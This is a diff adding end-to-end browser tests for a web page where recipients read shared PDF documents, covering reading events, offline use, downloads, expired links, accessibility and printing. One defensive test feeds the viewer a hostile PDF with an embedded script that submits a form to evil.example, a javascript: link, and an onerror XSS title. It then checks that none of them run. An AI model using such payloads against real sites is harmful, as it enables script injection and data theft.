@@ -1,0 +1,346 @@
+// The page on which a recipient reads a document.
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+
+import { api, newAccessLink, newMagnet, events, eventsOf } from './api.js';
+import { newDesktop, newPhone, newVisitor } from './browser.js';
+import { measure } from './measure.js';
+import { pdf } from './pdf.js';
+import { eventually, test } from './suite.js';
+
+const guide = await readFile(new URL('../demo/guide.pdf', import.meta.url));
+const newGuide = async (fields) => newAccessLink({ lead_magnet_id: (await newMagnet({ title: 'The guide to good guides', file: new Uint8Array(guide) })).id, ...fields });
+const detail = (link) => api('GET', `/api/v1/access-links/${link.id}`);
+
+const ready = (page) => page.locator('html[data-ready]').waitFor();
+const drawn = (page, n) => page.locator(`.page[data-page="${n}"] > canvas`).waitFor({ state: 'attached' });
+
+/** Stays with a page for so long; reading takes time, which is what is measured. */
+const read = (page, ms) => page.waitForTimeout(ms);
+
+const viewed = (all) => all.filter((e) => e.event_type === 'page_viewed').map((e) => e.event_data.page);
+
+const looks = [
+  ['phone', {}], ['phone', { dark: true }], ['tablet', {}], ['tablet', { dark: true }], ['desktop', {}], ['desktop', { dark: true }],
+  ['phone', { scripts: false }],
+];
+for (const [device, o] of looks) {
+  test(`viewer: the page, ${device} ${JSON.stringify(o)}`, async (t) => {
+    const link = await newGuide();
+    const v = await newVisitor(t, device, o);
+    await v.page.goto(link.url, { waitUntil: 'networkidle' });
+    if (o.scripts !== false) {
+      await ready(v.page);
+      await drawn(v.page, 1);
+      await drawn(v.page, 2);
+    }
+    // A link within the document is as large as the document makes it; the page's own controls lead
+    // to the same places.
+    await v.accessible(v.page, (rule, html) => rule === 'target-size' && html.includes('link-spot'));
+    await v.fits();
+    await v.screenshot('viewer');
+    const { layout_shift } = await measure(o.scripts === false ? 'viewer-plain' : 'viewer', v);
+    assert.ok(layout_shift < 0.02, `layout shift ${layout_shift}`);
+    if (o.scripts === false) return;
+    await v.page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight * 0.55));
+    await v.page.waitForFunction(() => document.querySelectorAll('.page.waiting').length === 0);
+    await v.screenshot('viewer-middle');
+  });
+}
+
+test('viewer: the events are those of the reading', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await read(v.page, 900);
+  for (const n of [2, 3, 4]) {
+    await v.page.keyboard.press('ArrowRight');
+    await drawn(v.page, n);
+    await read(v.page, 900);
+  }
+  await v.page.keyboard.press('Home'); // back to the first, past the others
+  await read(v.page, 900);
+  await v.page.goto('about:blank');
+  const all = await eventsOf({ access_link_id: link.id }, 5);
+  assert.deepEqual(viewed(all).sort(), [1, 1, 2, 3, 4]);
+  for (const { event_data: { duration_ms } } of all) assert.ok(duration_ms >= 800 && duration_ms < 60_000, `${duration_ms} ms`);
+  assert.equal(new Set(all.map((e) => e.id)).size, 5);
+  await eventually(async () => (await detail(link)).view_count === 1, 'one view');
+});
+
+/** Lets the page believe that the window shows another tab, or this one again. */
+const hide = (page, hidden) => page.evaluate((state) => {
+  Object.defineProperty(document, 'visibilityState', { value: state, configurable: true });
+  document.dispatchEvent(new Event('visibilitychange'));
+}, hidden ? 'hidden' : 'visible');
+
+test('viewer: a hidden page is not read, and what was read is told at once', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await read(v.page, 700);
+  await hide(v.page, true);
+  const [first] = await eventsOf({ access_link_id: link.id }, 1);
+  await read(v.page, 2500); // nobody does
+  await hide(v.page, false);
+  await read(v.page, 700);
+  await v.page.goto('about:blank');
+  const all = await eventsOf({ access_link_id: link.id }, 2);
+  assert.deepEqual(viewed(all), [1, 1]);
+  assert.ok(all.some((e) => e.id === first.id), 'the event that was sent twice is one');
+  const sum = all.reduce((ms, e) => ms + e.event_data.duration_ms, 0);
+  const times = all.map((e) => Date.parse(e.created_at));
+  assert.ok(Math.abs(times[1] - times[0]) >= 3000, 'the hidden time lies between');
+  assert.ok(sum >= 1200, `${sum} ms`);
+  assert.ok(all.every((e) => e.event_data.duration_ms < 2500 + 700), JSON.stringify(all.map((e) => e.event_data)));
+});
+
+test('viewer: a tunnel costs no event', async (t) => {
+  const link = await newGuide();
+  const v = await newPhone(t, { expected: [/ERR_INTERNET_DISCONNECTED/] });
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await read(v.page, 800);
+  await v.offline();
+  for (const n of [2, 3]) {
+    await v.page.evaluate((page) => document.querySelector(`.page[data-page="${page}"]`).scrollIntoView(), n);
+    await drawn(v.page, n);
+    await read(v.page, 2600); // long enough to try in vain
+  }
+  assert.deepEqual(viewed(await events({ access_link_id: link.id })), []);
+  await v.offline(false);
+  await eventually(async () => viewed(await events({ access_link_id: link.id })).length >= 2, 'events from the tunnel');
+  await v.page.goto('about:blank');
+  assert.deepEqual(viewed(await eventsOf({ access_link_id: link.id }, 3)).sort(), [1, 2, 3]);
+});
+
+test('viewer: a tab closed in the middle of reading', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await read(v.page, 800);
+  await v.page.keyboard.press('ArrowRight');
+  await read(v.page, 800);
+  await v.context.newPage(); // so that the browser has a window left
+  await v.page.close({ runBeforeUnload: true });
+  assert.deepEqual(viewed(await eventsOf({ access_link_id: link.id }, 2)).sort(), [1, 2]);
+});
+
+for (const scripts of [true, false]) {
+  test(`viewer: a download is a fact, ${scripts ? 'with' : 'without'} scripts`, async (t) => {
+    const link = await newGuide();
+    const v = await newDesktop(t, { scripts });
+    await v.page.goto(link.url);
+    if (scripts) await ready(v.page);
+    const [file] = await Promise.all([
+      v.page.waitForEvent('download'),
+      (scripts ? v.page.locator('#download') : v.page.getByRole('button', { name: 'Download it' })).click(),
+    ]);
+    assert.equal(file.suggestedFilename(), 'The guide to good guides.pdf');
+    assert.deepEqual(await readFile(await file.path()), guide);
+    await eventually(async () => {
+      const all = await events({ access_link_id: link.id });
+      return ['download_started', 'download_completed'].every((type) => all.filter((e) => e.event_type === type).length === 1);
+    }, 'both events');
+    const [completed] = await events({ access_link_id: link.id, event_type: 'download_completed' });
+    assert.match(completed.user_agent, /Chrome\/150/);
+    assert.equal(completed.ip_hash, null);
+  });
+}
+
+test('viewer: without scripts the browser shows the document', async (t) => {
+  const link = await newGuide({ max_views: 1 });
+  const v = await newPhone(t, { scripts: false, expected: [/410/] });
+  await v.page.goto(link.url);
+  assert.equal((await detail(link)).view_count, 0);
+  const opened = v.page.waitForResponse((r) => r.url().includes('/file?s='));
+  await v.page.getByRole('button', { name: 'Open the document' }).click().catch(() => undefined); // a download in headless Chromium
+  const answer = await opened;
+  assert.equal(answer.status(), 200);
+  assert.equal(answer.headers()['content-type'], 'application/pdf');
+  assert.match(answer.headers()['content-disposition'], /^inline/);
+});
+
+test('viewer: a link for one view', async (t) => {
+  const link = await newGuide({ max_views: 1 });
+  const v = await newPhone(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await v.page.reload(); // no further view
+  await ready(v.page);
+  await drawn(v.page, 1);
+  const other = await newDesktop(t, { expected: [/410/] });
+  await other.page.goto(link.url);
+  await other.page.getByRole('heading', { name: 'This link is used up' }).waitFor();
+  await other.accessible();
+  await other.screenshot('viewer-used-up');
+});
+
+test('viewer: links that do not open', async (t) => {
+  const v = await newPhone(t, { expected: [/404|410/] });
+  const expired = await newGuide({ expires_at: new Date(Date.now() + 1500).toISOString() });
+  const inactive = await newGuide();
+  await api('PATCH', `/api/v1/access-links/${inactive.id}`, { is_active: false });
+  await v.page.waitForTimeout(1600);
+  for (const [url, status, words] of [
+    [expired.url, 410, 'This link has expired'],
+    [inactive.url, 410, /no longer|switched off|closed/],
+    [`${expired.url.slice(0, -3)}aaa`, 404, 'There is no page here'],
+  ]) {
+    const answer = await v.page.goto(url);
+    assert.equal(answer.status(), status, url);
+    await v.page.getByRole('heading', { name: words }).waitFor();
+    await v.accessible();
+  }
+});
+
+test('viewer: the place is kept over a reload', async (t) => {
+  const link = await newGuide();
+  const v = await newPhone(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await v.page.evaluate(() => document.querySelector('.page[data-page="7"]').scrollIntoView());
+  await v.page.waitForFunction(() => history.state?.page === 7);
+  const before = await v.page.evaluate(() => document.querySelector('.page[data-page="7"]').getBoundingClientRect().top);
+  await v.page.reload();
+  await ready(v.page);
+  await drawn(v.page, 7);
+  const after = await v.page.evaluate(() => document.querySelector('.page[data-page="7"]').getBoundingClientRect().top);
+  assert.ok(Math.abs(after - before) < 60, `${before} px, then ${after} px`);
+  await v.page.goto('about:blank');
+  const all = await eventually(async () => {
+    const found = await events({ access_link_id: link.id });
+    return found.some((e) => e.event_data.page === 7) && found;
+  }, 'the events');
+  await eventually(async () => (await detail(link)).view_count === 1, 'one view');
+  assert.ok(all.every((e) => [1, 7].includes(e.event_data.page)));
+});
+
+test('viewer: with the keyboard alone', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  const where = () => v.page.locator('#number').inputValue();
+  const press = async (key, page) => {
+    await v.page.keyboard.press(key);
+    await v.page.waitForFunction((n) => document.querySelector('#number').value === n, String(page));
+  };
+  await press('ArrowRight', 2);
+  await press('ArrowRight', 3);
+  await press('ArrowLeft', 2);
+  await press('End', 12);
+  await press('Home', 1);
+  assert.equal(await where(), '1');
+  const level = () => v.page.locator('#zoom-level').textContent();
+  const before = await level();
+  await v.page.keyboard.press('+');
+  assert.notEqual(await level(), before);
+  await v.page.keyboard.press('0');
+  await v.page.screenshot({ path: `${(await import('./browser.js')).artefacts}/screenshots/viewer-whole-page.png` });
+  await v.page.keyboard.press('0');
+  await v.page.keyboard.press('?');
+  await v.page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
+  await v.accessible();
+  await v.screenshot('viewer-help');
+  await v.page.keyboard.press('Escape');
+  await v.page.keyboard.press('t');
+  await v.page.locator('#rail').waitFor({ state: 'hidden' });
+  await v.page.keyboard.press('t');
+  await v.page.locator('#rail').waitFor();
+  await v.page.getByRole('button', { name: 'Page 5', exact: true }).focus();
+  await press('Enter', 5);
+  await v.page.locator('#number').focus();
+  await v.page.keyboard.type('9');
+  await press('Enter', 9);
+});
+
+test('viewer: what a screen reader finds', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await v.page.getByRole('heading', { level: 1, name: 'The guide to good guides' }).waitFor();
+  await v.page.getByRole('main', { name: 'The guide to good guides' }).waitFor();
+  await v.page.getByRole('group', { name: 'Page 3 of 12' }).getByText('An address is a price').first().waitFor();
+  await v.page.getByRole('group', { name: 'Page 3 of 12' }).getByRole('heading', { name: 'An address is a price' }).waitFor();
+  await v.page.keyboard.press('ArrowRight');
+  await v.page.locator('#announce', { hasText: 'Page 2 of 12' }).waitFor({ state: 'attached' });
+  const text = await v.page.evaluate(() => {
+    getSelection().selectAllChildren(document.querySelector('.page[data-page="1"] .textLayer'));
+    return getSelection().toString();
+  });
+  assert.match(text.replaceAll(/\s+/g, ' '), /How to make a document that people ask for, open, and read to the end/);
+});
+
+test('viewer: a hostile document runs nothing and leads nowhere', async (t) => {
+  const file = pdf({ pages: 2, script: 'app.alert(1); this.submitForm("https://evil.example/");', link: 'javascript:alert(1)' });
+  const link = await newAccessLink({ lead_magnet_id: (await newMagnet({ file, title: '<img src=x onerror=alert(1)>' })).id });
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await drawn(v.page, 1);
+  await v.page.locator('.page[data-page="1"] .textLayer').waitFor({ state: 'attached' });
+  await read(v.page, 300);
+  assert.equal(await v.page.locator('.link-spot').count(), 0);
+  assert.equal(await v.page.locator('img[src=x]').count(), 0);
+});
+
+test('viewer: links of a document open apart, and learn nothing', async (t) => {
+  const link = await newAccessLink({ lead_magnet_id: (await newMagnet({ file: pdf({ link: 'https://example.com/more' }) })).id });
+  const v = await newDesktop(t);
+  await v.page.goto(link.url);
+  const spot = v.page.locator('.link-spot');
+  await spot.waitFor();
+  assert.equal(await spot.getAttribute('href'), 'https://example.com/more');
+  assert.equal(await spot.getAttribute('rel'), 'noopener noreferrer nofollow');
+  assert.equal(await spot.getAttribute('target'), '_blank');
+});
+
+test('viewer: the first page of a large document on a slow connection', async (t) => {
+  const file = pdf({ pages: 120, padding: 40_000 }); // 5 MB
+  const link = await newAccessLink({ lead_magnet_id: (await newMagnet({ file, title: 'A large one' })).id });
+  const v = await newPhone(t);
+  await v.page.goto(link.url);
+  await ready(v.page); // scripts are here
+  const fresh = await newPhone(t);
+  await fresh.page.goto(link.url);
+  await ready(fresh.page);
+  await drawn(fresh.page, 1);
+  const taken = async () => fresh.page.evaluate(() => performance.getEntriesByType('resource').filter((e) => e.name.includes('/file?s=')).reduce((sum, e) => sum + e.transferSize, 0));
+  assert.ok(await taken() < 1_500_000, `${await taken()} bytes`);
+  await fresh.page.evaluate(() => document.querySelector('.page[data-page="90"]').scrollIntoView());
+  await drawn(fresh.page, 90);
+  assert.ok(await taken() < 3_000_000, `${await taken()} bytes`);
+});
+
+test('viewer: a connection far from the mast', async (t) => {
+  const link = await newGuide();
+  const v = await newPhone(t);
+  await v.slow();
+  await v.page.goto(link.url, { waitUntil: 'commit' });
+  await v.page.locator('#first').waitFor();
+  await v.page.waitForFunction(() => document.querySelector('#first img')?.complete);
+  await v.screenshot('viewer-slow'); // the first page stands in for itself
+  await ready(v.page);
+  await drawn(v.page, 1);
+  await measure('viewer-slow', v);
+});
+
+test('viewer: print has all pages', async (t) => {
+  const link = await newGuide();
+  const v = await newDesktop(t);
+  await v.page.addInitScript(() => {
+    globalThis.print = () => {
+      globalThis.printed = [...document.querySelectorAll('#paper img')].map((i) => [i.naturalWidth, i.naturalHeight]);
+    };
+  });
+  await v.page.goto(link.url);
+  await ready(v.page);
+  await v.page.locator('#print').click();
+  await v.page.waitForFunction(() => globalThis.printed);
+  assert.equal((await v.page.evaluate(() => globalThis.printed)).length, 12);
+});
